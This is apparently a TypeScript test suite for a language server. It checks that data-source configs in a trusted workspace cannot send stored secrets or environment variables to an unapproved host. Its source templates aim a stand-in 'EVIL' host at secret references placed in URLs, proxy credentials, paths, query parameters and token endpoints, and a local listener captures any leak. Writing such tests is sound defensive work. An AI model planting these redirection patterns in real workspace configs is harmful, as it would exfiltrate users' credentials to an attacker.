import assert from 'node:assert/strict';
import { type Server as HttpServer, createServer as createHttpServer } from 'node:http';
import { type AddressInfo, type Server, createServer } from 'node:net';
import { join } from 'node:path';
import fc from 'fast-check';
import { CancellationTokenSource } from 'vscode-languageserver/node';
import type { SecretUse } from '../../protocol/requests/client-requests.ts';
import { isSoak, soakAssert } from '../support/soak.ts';
import { folderWith, removeFolder, writeFiles } from '../support/temporary-folder.ts';
import { waitUntil } from '../support/wait-until.ts';
import { requestsAbout } from './all-requests.ts';
import { type LspClient, startLspClient } from './lsp-client.ts';

/** Values that must not be sent: a secret of the user's storage, and an environment variable. */
const secret = 'hush-4711';
const variable = 'tok-0815';

/** Each takes `EVIL` or `GOOD` for a host and port, and a reference; at least one reference goes to `EVIL`. */
const sources: readonly ((reference: string) => string)[] = [
  (reference) =>
    `kind: servicenow, instanceUrl: "http://EVIL", tables: [orders], auth: { kind: basic, user: u, password: "${reference}" }`,
  (reference) =>
    `kind: servicenow, instanceUrl: "http://EVIL", tables: [orders], auth: { kind: basic, user: "${reference}", password: p }`,
  (reference) =>
    `kind: servicenow, instanceUrl: "http://EVIL/${reference}", tables: [orders], auth: { kind: basic, user: u, password: p }`,
  (reference) =>
    `kind: servicenow, instanceUrl: "http://EVIL", auth: { kind: oauth2, grant: client_credentials, clientId: c, clientSecret: "${reference}" }`,
  (reference) =>
    `kind: servicenow, instanceUrl: "http://GOOD", auth: { kind: oauth2, grant: password, clientId: c, user: u, password: "${reference}", tokenUrl: "http://EVIL/token" }`,
  (reference) =>
    `kind: servicenow, instanceUrl: "http://EVIL", auth: { kind: oauth2, grant: refresh_token, clientId: c, refreshToken: "${reference}", tokenUrl: "http://GOOD/token" }`,
  (reference) =>
    `kind: servicenow, instanceUrl: "http://GOOD", proxy: "http://u:${reference}@EVIL", tables: [orders], auth: { kind: basic, user: u, password: p }`,
  (reference) =>
    `kind: servicenow, instanceUrl: "http://GOOD", proxy: "http://EVIL", tables: [orders], auth: { kind: basic, user: u, password: "${reference}" }`,
  (reference) =>
    `kind: rest, baseUrl: "http://EVIL/v1", auth: { kind: apiKey, token: "${reference}", header: X-Api-Key }, endpoints: [{ name: orders, path: /orders, key: id }]`,
  (reference) =>
    `kind: rest, baseUrl: "http://EVIL/v1", auth: { kind: apiKey, token: "${reference}", parameter: key }, endpoints: [{ name: orders, path: /orders, key: id }]`,
  (reference) =>
    `kind: rest, baseUrl: "http://EVIL/v1", endpoints: [{ name: orders, path: "/orders/${reference}", key: id }]`,
  (reference) =>
    `kind: rest, baseUrl: "http://EVIL/v1", endpoints: [{ name: orders, path: /orders, key: id, parameters: { q: "${reference}" } }]`,
  (reference) => `kind: rest, baseUrl: "http://EVIL/v1", openapi: "http://EVIL/${reference}.json", endpoints: []`,
  (reference) =>
    `kind: rest, baseUrl: "http://EVIL/v1", auth: { kind: oauth2, grant: authorization_code, clientId: "${reference}", tokenUrl: "http://GOOD/token", authorizationUrl: "http://GOOD/page" }, endpoints: [{ name: orders, path: /orders, key: id }]`,
  () =>
    `kind: rest, baseUrl: "http://EVIL/v1", auth: { kind: oauth2, grant: authorization_code, clientId: c, tokenUrl: "http://GOOD/token", authorizationUrl: "http://GOOD/page" }, endpoints: [{ name: orders, path: /orders, key: id }]`,
  (reference) => `kind: postgresql, EVIL_HOST, database: d, user: u, password: "${reference}", ssl: { mode: disable }`,
  (reference) => `kind: postgresql, EVIL_HOST, database: "${reference}", user: u, password: p, ssl: { mode: prefer }`,
  (reference) => `kind: postgresql, EVIL_HOST, database: d, user: "${reference}", ssl: { mode: allow }`,
];

const references = ['${secret:itsm}', '${env:HOSTILE_TOKEN}', 'x${secret:itsm}y', '${env:HOSTILE_TOKEN}${secret:itsm}'];

const graph = `version: 1
name: Orders
dataSource: orders
elements:
  - { activityName: Order, dataObject: orders, key: id, startTimestamp: placed_at, properties: [id] }
`;

describe('language server: trusted workspace that redirects secrets', () => {
  let evil: Server;
  let good: HttpServer;
  let evilPort = 0;
  let goodPort = 0;
  /** What each connection to the other host has received. */
  const afterMessage: string[] = [];
  let folder = '';
  let client: LspClient | undefined;
  let allows = (_use: SecretUse): boolean => false;
  let made = 0;

  before(async () => {
    evil = listener(afterMessage);
    evilPort = await listen(evil);
    // The user's real host: it issues tokens, and rejects all other requests.
    good = createHttpServer((request, response) => {
      request.resume();
      if (request.url === '/token') return response.end(JSON.stringify({ access_token: 'token-1', expires_in: 1800 }));
      return response.writeHead(302, { Location: `http://127.0.0.1:${evilPort}${request.url}` }).end();
    });
    goodPort = await listen(good);
    folder = await folderWith({});
    client = await startClient();
  });
  after(async () => {
    await client?.close();
    await Promise.all([evil, good].map((server) => new Promise((resolve) => server.close(resolve))));
    await removeFolder(folder);
  });
  beforeEach(() => (afterMessage.length = 0));

  function startClient(): Promise<LspClient> {
    const tokens = new Map<string, string>();
    return startLspClient({
      folder,
      env: { HOSTILE_TOKEN: variable },
      initializationOptions: { trusted: true, extended: true },
      answers: {
        // As if stored for any place.
        'entityGraph/secret': () => ({ value: secret }),
        'entityGraph/allowSecret': (use: SecretUse) => ({ allowed: allows(use) }),
        'entityGraph/token': ({ name }: { name: string }) => ({ value: tokens.get(name) ?? null }),
        'entityGraph/keepToken': ({ name, value }: { name: string; value: string }) => (tokens.set(name, value), null),
        'entityGraph/authorize': () => ({ redirectUri: 'vscode://x/oauth', code: 'code-1' }),
      },
    });
  }

  /**
   * A folder with one data source and a graph; opens the graph like a person would: its tables are read in the
   * background.
   */
  async function openWorkspace(source: string, port = evilPort): Promise<string> {
    made += 1;
    const workspace = join(folder, `w${made}`);
    const settings = source
      .replaceAll('EVIL_HOST', `host: 127.0.0.1, port: ${port}`)
      .replaceAll('EVIL', `127.0.0.1:${port}`)
      .replaceAll('GOOD', `127.0.0.1:${goodPort}`);
    const text = `version: 1\ndataSources:\n  orders: { ${settings} }\n`;
    await writeFiles(workspace, { 'entity-sources.yaml': text, 'orders.entity.yaml': graph });
    await client?.open(join(workspace, 'orders.entity.yaml'), graph);
    return workspace;
  }

  /** Sends every request. */
  async function askForEverything(workspace: string): Promise<void> {
    for (const [method, params] of Object.entries(requestsAbout(workspace, 'orders'))) {
      const cancellation = new CancellationTokenSource();
      const timer = setTimeout(() => cancellation.cancel(), 20_000);
      await client?.connection.sendRequest(method, params, cancellation.token).catch(() => undefined);
      clearTimeout(timer);
    }
  }

  const goodOnly = ({ origin, tls }: SecretUse): boolean =>
    origin === `http://127.0.0.1:${goodPort}` && !tls.includes('through');

  it('sends nothing to hosts that were not allowed', async () => {
    const source = fc.tuple(fc.constantFrom(...sources), fc.constantFrom(...references));
    allows = goodOnly;
    await soakAssert(
      fc.asyncProperty(source, async ([make, reference]) => {
        const workspace = await openWorkspace(make(reference));
        const uri = requestsAbout(workspace, 'orders')['entityGraph/testQuery'].uri;
        await client?.diagnostics(uri, (found) => found.length > 0);
        assert.deepEqual(afterMessage, [], `when ${make(reference)} is opened`);
        await askForEverything(workspace);
        assert.deepEqual(afterMessage, [], make(reference));
      }),
      3,
    );
  }).timeout(isSoak ? 0 : 300_000);

  it('does not follow redirects of an allowed host', async () => {
    allows = goodOnly;
    await askForEverything(await openWorkspace(sources[0]?.('${secret:itsm}').replace('EVIL', 'GOOD') ?? ''));
    assert.deepEqual(afterMessage, []);
  }).timeout(600_000);

  // The last one: the rejections it causes are repeated for a while.
  for (const [index, make] of sources.entries()) {
    it(`calls the same host once it is allowed: ${make('…')}`, async () => {
      if (index === 0) {
        // Nothing of the random workspaces, such as a login in progress, is known here.
        await client?.close();
        client = await startClient();
      }
      allows = () => true;
      const heardNow: string[] = [];
      const server = listener(heardNow);
      const workspace = await openWorkspace(make('${secret:itsm}'), await listen(server));
      const { uri } = requestsAbout(workspace, 'orders')['entityGraph/testQuery'];
      const cancellation = new CancellationTokenSource();
      const params = { uri, target: { kind: 'element', name: 'Order' } };
      const answered = client?.connection.sendRequest('entityGraph/testQuery', params, cancellation.token);
      await waitUntil(`source ${index}`, async () => (heardNow.some((said) => said !== '') ? true : undefined));
      cancellation.cancel();
      await answered;
      await new Promise((resolve) => server.close(resolve));
    });
  }
});

/** A server that listens, and sends what a client expects before it sends its password. */
function listener(afterMessage: string[]): Server {
  return createServer((socket) => {
    const at = afterMessage.push('') - 1;
    socket.on('data', (data) => (afterMessage[at] += data.toString('latin1')));
    socket.on('error', () => undefined);
    // The TLS request of PostgreSQL is refused, so that a password would come next.
    socket.once('data', (data) => (data.length === 8 ? socket.write('N') : socket.end()));
  });
}

async function listen(server: Server | HttpServer): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}
